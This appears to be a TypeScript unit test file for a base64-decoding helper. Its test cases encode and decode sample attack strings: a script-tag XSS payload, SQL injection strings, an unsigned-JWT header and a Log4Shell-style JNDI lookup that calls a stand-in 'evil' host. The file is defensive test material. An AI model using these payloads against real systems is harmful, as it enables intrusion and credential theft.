import { test } from 'node:test';
import assert from 'node:assert/strict';
import { decodeBase64 } from './base64.ts';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string) => Buffer.from(s, 'utf8').toString('base64url');

const CASES: [string, string][] = [
  [b64('<script>alert(1)</script>'), '<script>alert(1)</script>'],
  [b64("' OR 1=1 -- and more"), "' OR 1=1 -- and more"],
  [b64url('{"alg":"none","typ":"JWT"}'), '{"alg":"none","typ":"JWT"}'],
  [`${b64url('{"alg":"HS256"}')}.${b64url('{"sub":"1 UNION SELECT password FROM users"}')}.c2ln`, '{"alg":"HS256"}.{"sub":"1 UNION SELECT password FROM users"}.c2ln'],
  [`data=${b64('${jndi:ldap://evil/a}')}&x=1`, 'data=${jndi:ldap://evil/a}&x=1'],
  [`  ${b64('café ☕ and text')}  `, '  café ☕ and text  '],
  [b64('no padding here!!').replace(/=+$/, ''), 'no padding here!!'],
  // stays
  ['internationalization', 'internationalization'],
  ['ABCDEFGHIJKLMNOPQRSTUVWXYZ', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'],
  ['d41d8cd98f00b204e9800998ecf8427e', 'd41d8cd98f00b204e9800998ecf8427e'],
  ['/usr/local/bin/something', '/usr/local/bin/something'],
  ['shortc2hvcnQ=', 'shortc2hvcnQ='],
  [b64('\u0000\u0001\u0002binary\u0003\u0004\u0005\u0006'), b64('\u0000\u0001\u0002binary\u0003\u0004\u0005\u0006')],
  [Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88]).toString('base64'), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88]).toString('base64')],
  ['PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=x', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=x'],
  ['a+b-c_d/eeeeeeeeeeeeeeeeeeee', 'a+b-c_d/eeeeeeeeeeeeeeeeeeee'],
  ['Hello world, this is prose.', 'Hello world, this is prose.'],
];

for (const [input, expected] of CASES) {
  test(`base64 ${JSON.stringify(input).slice(0, 60)}`, () => {
    assert.equal(decodeBase64(input), expected);
  });
}

test('same string when nothing decodes; linear', () => {
  const s = 'plain words only';
  assert.equal(decodeBase64(s), s);
  const start = performance.now();
  decodeBase64('A'.repeat(1_000_000));
  decodeBase64('QUFB'.repeat(250_000));
  decodeBase64('ab=='.repeat(250_000));
  assert.ok(performance.now() - start < 1000);
});
